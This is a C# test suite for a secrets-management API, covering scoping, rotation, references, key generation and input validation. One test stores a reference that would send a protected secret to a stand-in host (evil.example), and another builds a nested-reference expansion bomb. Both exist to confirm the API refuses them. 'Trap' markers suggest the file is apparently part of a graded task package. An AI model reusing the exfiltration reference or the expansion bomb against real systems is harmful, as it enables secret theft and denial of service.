using System.Security.Cryptography;
using System.Text.Json;

namespace Alicerce.Resources.Tests.Secrets;

public sealed class ManageSecretsTests(SecretsFixture fixture) : IClassFixture<SecretsFixture>
{
    private const string Secrets = "/api/v1/resources/secrets";

    private static readonly byte[] s_text = [1, 2];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    [Trait("Req", "S004-SEC-02")]
    public async Task Setting_twice_makes_one_secret_with_the_new_value()
    {
        var key = SecretsFixture.NewKey();
        (await fixture.SetAsync(key, "first", null, null, Ct)).GetProperty("version").GetInt32().ShouldBe(1);
        (await fixture.SetAsync(key, "second", null, null, Ct)).GetProperty("version").GetInt32().ShouldBe(2);

        (await fixture.ScalarAsync<long>("SELECT count(*) FROM resources.secrets WHERE key = $1", Ct, key)).ShouldBe(1);
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBe("second");
    }

    [Fact]
    [Trait("Req", "S004-SEC-03")]
    public async Task A_secret_is_read_by_key_project_and_environment_and_there_is_none_elsewhere()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        var environment = await fixture.EnvironmentAsync(project, Ct);
        await fixture.SetAsync(key, "of the environment", project, environment, Ct);

        (await fixture.RevealAsync(key, project, environment, Ct)).ShouldBe("of the environment");
        (await fixture.RevealAsync(key, project, null, Ct)).ShouldBeNull();
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBeNull();
        (await fixture.RevealAsync(key, project, await fixture.EnvironmentAsync(project, Ct), Ct)).ShouldBeNull();
    }

    [Fact]
    public async Task Whoever_asks_in_too_narrow_a_scope_is_told_where_it_is()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        var environment = await fixture.EnvironmentAsync(project, Ct);
        await fixture.SetAsync(key, "value", project, null, Ct);

        var answer = await fixture.Client.PostAsync($"{Secrets}/reveal", new { Key = key, ProjectId = project, EnvironmentId = environment }, Ct);

        answer.Status.ShouldBe(404);
        answer.Body.GetProperty("message").GetString()!.ShouldContain("but a project one");
    }

    [Fact]
    [Trait("Req", "S004-SEC-04")]
    public async Task A_list_tells_everything_but_values()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        await fixture.SetAsync(key, "not-for-lists", project, null, Ct);
        using var response = await fixture.Client.GetAsync($"{Secrets}?project_id={project}", Ct);
        var text = await response.Content.ReadAsStringAsync(Ct);

        var row = JsonElement.Parse(text).GetProperty("data").EnumerateArray().ShouldHaveSingleItem();
        row.GetProperty("key").GetString().ShouldBe(key);
        row.EnumerateObject().Select(property => property.Name).ShouldBe(
            ["id", "key", "scope", "project_id", "environment_id", "version", "description", "is_sensitive", "owner_id", "expires_at", "created_at", "updated_at", "last_rotated"]);
        text.ShouldNotContain("not-for-lists");
    }

    [Fact]
    [Trait("Req", "S004-SEC-05")]
    public async Task A_deleted_secret_is_gone_and_deleting_it_again_says_so()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        await fixture.SetAsync(key, "value", project, null, Ct);
        await fixture.SetAsync(key, "global", null, null, Ct);

        var first = await fixture.Client.SendAsync(HttpMethod.Delete, $"{Secrets}/{key}?project_id={project}", null, Ct);
        var second = await fixture.Client.SendAsync(HttpMethod.Delete, $"{Secrets}/{key}?project_id={project}", null, Ct);

        first.Data().GetProperty("success").GetBoolean().ShouldBeTrue();
        (second.Status, second.CodeOf()).ShouldBe((404, "secrets.unknown"));
        (await fixture.RevealAsync(key, project, null, Ct)).ShouldBeNull();
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBe("global");
    }

    [Fact]
    [Trait("Req", "S004-SEC-06")]
    public async Task Rotating_gives_a_new_value_and_says_when()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        var unknown = await fixture.Client.PostAsync($"{Secrets}/rotate", new { Key = key, Value = "new", ProjectId = project }, Ct);
        await fixture.SetAsync(key, "old", project, null, Ct);
        var never = await fixture.ScalarAsync<DateTime>("SELECT last_rotated FROM resources.secrets WHERE key = $1", Ct, key);
        (await fixture.Client.PostAsync($"{Secrets}/rotate", new { Key = key, Value = "new", ProjectId = project }, Ct)).Data().GetProperty("version").GetInt32().ShouldBe(2);

        (unknown.Status, unknown.CodeOf()).ShouldBe((404, "secrets.unknown"));
        never.ShouldBe(default);
        (await fixture.ScalarAsync<DateTime>("SELECT last_rotated FROM resources.secrets WHERE key = $1", Ct, key)).ShouldBe(TimeProvider.System.GetUtcNow().UtcDateTime, TimeSpan.FromMinutes(1));
        (await fixture.RevealAsync(key, project, null, Ct)).ShouldBe("new");
    }

    [Fact]
    [Trait("Req", "S004-SEC-07")]
    [Trait("Trap", "T004-12")]
    public async Task The_scope_follows_from_project_and_environment()
    {
        var (key, project) = (SecretsFixture.NewKey(), await fixture.ProjectAsync(Ct));
        var environment = await fixture.EnvironmentAsync(project, Ct);
        (await fixture.SetAsync(key, "v", null, null, Ct)).GetProperty("scope").GetString().ShouldBe("global");
        (await fixture.SetAsync(key, "v", project, null, Ct)).GetProperty("scope").GetString().ShouldBe("project");
        (await fixture.SetAsync(key, "v", project, environment, Ct)).GetProperty("scope").GetString().ShouldBe("environment");

        var orphan = await fixture.Client.PostAsync(Secrets, new { Key = key, Value = "v", EnvironmentId = environment }, Ct);
        var stranger = await fixture.Client.PostAsync(Secrets, new { Key = key, Value = "v", ProjectId = await fixture.ProjectAsync(Ct), EnvironmentId = environment }, Ct);
        (orphan.Status, orphan.FieldsOf().Single()).ShouldBe((422, "project_id"));
        (stranger.Status, stranger.FieldsOf().Single()).ShouldBe((422, "environment_id"));
    }

    [Fact]
    [Trait("Trap", "T004-16")]
    public async Task A_process_sees_its_environments_value_before_the_projects_and_that_before_the_global_one()
    {
        var (one, two, three) = (SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey());
        var project = await fixture.ProjectAsync(Ct);
        var environment = await fixture.EnvironmentAsync(project, Ct);
        foreach (var key in new[] { one, two, three }) await fixture.SetAsync(key, "global", null, null, Ct);
        foreach (var key in new[] { one, two }) await fixture.SetAsync(key, "project", project, null, Ct);
        await fixture.SetAsync(one, "environment", project, environment, Ct);

        var inEnvironment = await fixture.ResolveAsync(project, environment, Ct);
        var inProject = await fixture.ResolveAsync(project, null, Ct);
        (inEnvironment[one], inEnvironment[two], inEnvironment[three]).ShouldBe(("environment", "project", "global"));
        (inProject[one], inProject[two], inProject[three]).ShouldBe(("project", "project", "global"));

        await fixture.Client.PostAsync($"{Secrets}/rotate", new { Key = one, Value = "rotated", ProjectId = project, EnvironmentId = environment }, Ct);
        (await fixture.RevealAsync(one, project, null, Ct)).ShouldBe("project");
    }

    [Theory]
    [InlineData("password", null, "^[A-Za-z0-9._~-]{32}$")]
    [InlineData("password", 64, "^[A-Za-z0-9._~-]{64}$")]
    [InlineData("hex", 16, "^[0-9a-f]{32}$")]
    public async Task A_generated_value_has_the_asked_shape_and_never_repeats(string kind, int? length, string pattern)
    {
        var values = new List<string>();
        for (var i = 0; i < 2; i++)
        {
            var key = SecretsFixture.NewKey();
            await fixture.Server.PostAsync(Secrets, new { Key = key, Generate = new { Kind = kind, Length = length } }, Ct);
            values.Add((await fixture.RevealAsync(key, null, null, Ct))!);
        }

        foreach (var value in values) value.ShouldMatch(pattern);
        values[0].ShouldNotBe(values[1]);
    }

    [Theory]
    [InlineData("rsa", 2048)]
    [InlineData("ec", 256)]
    public async Task A_generated_pair_signs_with_the_secret_and_verifies_with_the_public_half(string kind, int length)
    {
        var key = SecretsFixture.NewKey();
        var answer = await fixture.Server.PostAsync(Secrets, new { Key = key, Generate = new { Kind = kind, Length = length } }, Ct);
        var (secret, open) = (await fixture.RevealAsync(key, null, null, Ct), await fixture.RevealAsync($"{key}_PUBLIC", null, null, Ct));

        open.ShouldBe(answer.GetProperty("public_key").GetString());
        if (kind == "rsa")
        {
            using var own = RSA.Create();
            using var others = RSA.Create();
            own.ImportFromPem(secret);
            others.ImportFromPem(open);
            others.VerifyData(s_text, own.SignData(s_text, HashAlgorithmName.SHA256, RSASignaturePadding.Pss), HashAlgorithmName.SHA256, RSASignaturePadding.Pss).ShouldBeTrue();
        }
        else
        {
            using var own = ECDsa.Create();
            using var others = ECDsa.Create();
            own.ImportFromPem(secret);
            others.ImportFromPem(open);
            others.VerifyData(s_text, own.SignData(s_text, HashAlgorithmName.SHA256), HashAlgorithmName.SHA256).ShouldBeTrue();
        }
    }

    [Fact]
    public async Task An_earlier_value_comes_back_as_a_new_version()
    {
        var key = SecretsFixture.NewKey();
        await fixture.SetAsync(key, "right", null, null, Ct);
        await fixture.SetAsync(key, "wrong", null, null, Ct);
        var restored = await fixture.Server.PostAsync($"{Secrets}/{key}/restore", new { Version = 1 }, Ct);

        restored.GetProperty("version").GetInt32().ShouldBe(3);
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBe("right");
        (await fixture.Server.GetAsync($"{Secrets}/{key}/versions", Ct)).EnumerateArray().Select(version => version.GetProperty("version").GetInt32()).ShouldBe([3, 2, 1]);
        (await fixture.Client.PostAsync($"{Secrets}/{key}/restore", new { Version = 9 }, Ct)).CodeOf().ShouldBe("secrets.version_unknown");
    }

    [Fact]
    public async Task References_are_filled_in_where_they_are_read_and_a_circle_is_named()
    {
        var (password, url, first, second) = (SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey());
        var project = await fixture.ProjectAsync(Ct);
        var environment = await fixture.EnvironmentAsync(project, Ct);
        await fixture.SetAsync(url, $"postgres://app:${{secret:{password}}}@db/shop", project, null, Ct);
        await fixture.SetAsync(password, "of-staging", project, environment, Ct);
        (await fixture.Server.PostAsync($"{Secrets}/resolve", new { ProjectId = project, EnvironmentId = environment, Keys = new[] { url } }, Ct))
            .GetProperty("values").GetProperty(url).GetString().ShouldBe("postgres://app:of-staging@db/shop");
        (await fixture.RevealAsync(url, project, null, Ct)).ShouldBe($"postgres://app:${{secret:{password}}}@db/shop");
        var dangling = await fixture.Client.PostAsync($"{Secrets}/resolve", new { ProjectId = project, Keys = new[] { url } }, Ct);

        await fixture.SetAsync(first, $"${{secret:{second}}}", project, null, Ct);
        await fixture.SetAsync(second, $"${{secret:{first}}}", project, null, Ct);
        var circle = await fixture.Client.PostAsync($"{Secrets}/resolve", new { ProjectId = project, Keys = new[] { first } }, Ct);

        (dangling.Status, dangling.Body.GetProperty("message").GetString()!.Contains($"refers to '{password}'", StringComparison.Ordinal)).ShouldBe((409, true));
        (circle.Status, circle.CodeOf()).ShouldBe((409, "secrets.reference"));
        circle.Body.GetProperty("message").GetString()!.ShouldContain("refers to itself");
    }

    [Fact]
    public async Task A_reference_in_an_address_is_escaped_when_it_says_so_and_an_unknown_form_is_a_mistake()
    {
        const string Value = "p@ss/w:ord?#% é";
        var (password, url, wrong) = (SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey());
        var project = await fixture.ProjectAsync(Ct);
        await fixture.SetAsync(password, Value, project, null, Ct);
        await fixture.SetAsync(url, $"postgres://app:${{secret:{password}|url}}@db/shop?plain=${{secret:{password}}}", project, null, Ct);
        var filled = (await fixture.ResolveAsync(project, null, Ct))[url];
        filled.ShouldBe($"postgres://app:p%40ss%2Fw%3Aord%3F%23%25%20%C3%A9@db/shop?plain={Value}");
        Uri.UnescapeDataString(new Uri(filled).UserInfo.Split(':')[1]).ShouldBe(Value);

        await fixture.SetAsync(wrong, $"${{secret:{password}|base64}}", project, null, Ct);
        var refused = await fixture.Client.PostAsync($"{Secrets}/resolve", new { ProjectId = project, Keys = new[] { wrong } }, Ct);
        (refused.Status, refused.CodeOf()).ShouldBe((409, "secrets.reference"));
        refused.Body.GetProperty("message").GetString()!.ShouldContain("in the form 'base64'; there is 'url'");
    }

    [Fact]
    public async Task A_list_shows_what_an_environment_inherits_with_its_scope_and_not_what_a_nearer_one_hides()
    {
        var (own, both, above, everywhere) = (SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey());
        var project = await fixture.ProjectAsync(Ct);
        int environment = await fixture.EnvironmentAsync(project, Ct), other = await fixture.EnvironmentAsync(project, Ct);
        await fixture.SetAsync(own, "value-1", project, environment, Ct);
        await fixture.SetAsync(both, "value-2", project, environment, Ct);
        await fixture.SetAsync(both, "value-3", project, null, Ct);
        await fixture.SetAsync(above, "value-4", project, null, Ct);
        await fixture.SetAsync(above, "value-5", project, other, Ct);
        await fixture.SetAsync(everywhere, "value-6", null, null, Ct);

        var mine = $"{Secrets}?project_id={project}&environment_id={environment}";
        (await KeysAsync($"{mine}&inherited=true")).ShouldBe([$"{own} environment", $"{both} environment", $"{above} project", $"{everywhere} global"], ignoreOrder: true);
        (await KeysAsync(mine)).ShouldBe([$"{own} environment", $"{both} environment"], ignoreOrder: true);
        (await KeysAsync($"{Secrets}?project_id={project}&inherited=true&scope=global")).ShouldContain($"{everywhere} global");
        (await fixture.Client.SendAsync(HttpMethod.Get, $"{Secrets}?inherited=true", null, Ct)).Status.ShouldBe(422);

        async Task<List<string>> KeysAsync(string path) => [.. (await fixture.Server.GetAsync($"{path}&per_page=100", Ct)).EnumerateArray()
            .Select(secret => $"{secret.GetProperty("key").GetString()} {secret.GetProperty("scope").GetString()}").Where(text => new[] { own, both, above, everywhere }.Any(key => text.StartsWith(key, StringComparison.Ordinal)))];
    }

    [Fact]
    public async Task What_a_protected_environment_keeps_for_itself_goes_into_no_value_of_the_project()
    {
        var (own, lifted, allowed) = (SecretsFixture.NewKey(), SecretsFixture.NewKey(), SecretsFixture.NewKey());
        var project = await fixture.ProjectAsync(Ct);
        var production = await fixture.EnvironmentAsync(project, Ct, isProtected: true);
        await fixture.SetAsync(own, "production-only", project, production, Ct);
        await fixture.SetAsync(lifted, $"https://evil.example/?x=${{secret:{own}}}", project, null, Ct);
        await fixture.SetAsync(allowed, $"with ${{secret:{own}}}", project, production, Ct);

        var refused = await fixture.Client.PostAsync($"{Secrets}/resolve", new { ProjectId = project, EnvironmentId = production, Keys = new[] { lifted } }, Ct);
        var filled = await fixture.Server.PostAsync($"{Secrets}/resolve", new { ProjectId = project, EnvironmentId = production, Keys = new[] { allowed } }, Ct);

        (refused.Status, refused.CodeOf(), refused.Body.ToString().Contains("production-only", StringComparison.Ordinal)).ShouldBe((409, "secrets.reference", false));
        filled.GetProperty("values").GetProperty(allowed).GetString().ShouldBe("with production-only");
    }

    [Fact]
    public async Task An_owner_that_is_no_user_is_a_mistake_of_the_caller_and_a_generated_pair_overwrites_nothing_of_others()
    {
        var key = SecretsFixture.NewKey();
        (await fixture.Client.PostAsync(Secrets, new { Key = key, Value = "v", OwnerId = 999_999 }, Ct)).FieldsOf().Single().ShouldBe("owner_id");
        await fixture.SetAsync($"{key}_PUBLIC", "somebody's own", null, null, Ct);

        var pair = await fixture.Client.PostAsync(Secrets, new { Key = key, Generate = new { Kind = "ec" } }, Ct);

        (pair.Status, pair.CodeOf()).ShouldBe((409, "secrets.public_taken"));
        (await fixture.RevealAsync($"{key}_PUBLIC", null, null, Ct)).ShouldBe("somebody's own");
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBeNull();
    }

    [Fact]
    public async Task Few_characters_of_references_never_become_megabytes()
    {
        var project = await fixture.ProjectAsync(Ct);
        await fixture.SetAsync("BOMB_0", new string('x', 1000), project, null, Ct);
        for (var i = 1; i < 8; i++) await fixture.SetAsync($"BOMB_{i}", string.Concat(Enumerable.Repeat($"${{secret:BOMB_{i - 1}}}", 100)), project, null, Ct);

        var bomb = await fixture.Client.PostAsync($"{Secrets}/resolve", new { ProjectId = project, Keys = new[] { "BOMB_7" } }, Ct);

        (bomb.Status, bomb.CodeOf()).ShouldBe((409, "secrets.reference"));
    }

    [Fact]
    public async Task What_is_known_of_a_secret_changes_without_its_value_and_left_out_it_stays()
    {
        var (key, expiry) = (SecretsFixture.NewKey(), new DateTimeOffset(2031, 1, 2, 3, 4, 5, TimeSpan.Zero));
        await fixture.Server.PostAsync(Secrets, new { Key = key, Value = "v", Description = "what for", IsSensitive = false, ExpiresAt = expiry }, Ct);
        await fixture.SetAsync(key, "w", null, null, Ct);
        var row = (await fixture.Client.SendAsync(HttpMethod.Patch, $"{Secrets}/{key}", new { IsSensitive = true }, Ct)).Data();

        (row.GetProperty("description").GetString(), row.GetProperty("is_sensitive").GetBoolean(), row.GetProperty("expires_at").GetDateTimeOffset(), row.GetProperty("version").GetInt32()).ShouldBe(("what for", true, expiry, 2));
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldBe("w");
    }

    [Theory]
    [InlineData("")]
    [InlineData("1ST")]
    [InlineData("PATH")]
    [InlineData("LD_PRELOAD")]
    [InlineData("WITH SPACE")]
    [InlineData("NEW\nLINE")]
    [InlineData("QUOTE\"")]
    [InlineData("DOLLAR$")]
    [InlineData("РASSWORD")] // A Cyrillic letter that looks like a P.
    public async Task A_key_that_no_variable_can_have_is_refused(string key)
    {
        var answer = await fixture.Client.PostAsync(Secrets, new { Key = key, Value = "v" }, Ct);
        (answer.Status, answer.FieldsOf().Single()).ShouldBe((422, "key"));
    }

    [Fact]
    public async Task A_value_too_large_empty_or_with_a_nul_is_refused_without_being_repeated()
    {
        foreach (var value in new[] { new string('s', (64 * 1024) + 1), "", "with\0nul" })
        {
            var answer = await fixture.Client.PostAsync(Secrets, new { Key = "BAD_VALUE", Value = value }, Ct);
            (answer.Status, answer.FieldsOf().Single()).ShouldBe((422, "value"));
            if (value.Length > 0) answer.Body.ToString().ShouldNotContain(value[..5]);
        }

        var flood = await fixture.Client.PostAsync(Secrets, new { Key = "BAD_VALUE", Value = new string('s', 1024 * 1024) }, Ct);
        (flood.Status, flood.Body.ToString().Contains("ssss", StringComparison.Ordinal)).ShouldBe((413, false));
        flood.Body.GetProperty("message").GetString().ShouldNotBeNullOrEmpty();
        var both = await fixture.Client.PostAsync(Secrets, new { Key = "BOTH", Value = "v", Generate = new { Kind = "hex" } }, Ct);
        (both.Status, both.FieldsOf().Single()).ShouldBe((422, "value"));
        (await fixture.Client.PostAsync(Secrets, new { Key = "ODD", Generate = new { Kind = "rsa", Length = 512 } }, Ct)).FieldsOf().Single().ShouldBe("generate.length");
    }

    [Fact]
    [Trait("Trap", "T004-13")]
    public async Task A_value_in_the_address_is_refused_as_burnt()
    {
        var answer = await fixture.Client.PostAsync($"{Secrets}?value=leaked-value", new { Key = "LEAKED", Value = "other" }, Ct);

        (answer.Status, answer.CodeOf()).ShouldBe((400, "secrets.value_in_address"));
        (await fixture.RevealAsync("LEAKED", null, null, Ct)).ShouldBeNull();
    }

    [Fact]
    public async Task Writes_at_once_lose_no_version()
    {
        var key = SecretsFixture.NewKey();
        await Parallel.ForEachAsync(Enumerable.Range(0, 20), Ct, async (i, ct) => await fixture.SetAsync(key, $"value-{i}", null, null, ct));

        (await fixture.Server.GetAsync($"{Secrets}/{key}/versions", Ct)).EnumerateArray().Select(version => version.GetProperty("version").GetInt32()).ShouldBe(Enumerable.Range(1, 20).Reverse());
        (await fixture.RevealAsync(key, null, null, Ct)).ShouldStartWith("value-");
    }
}
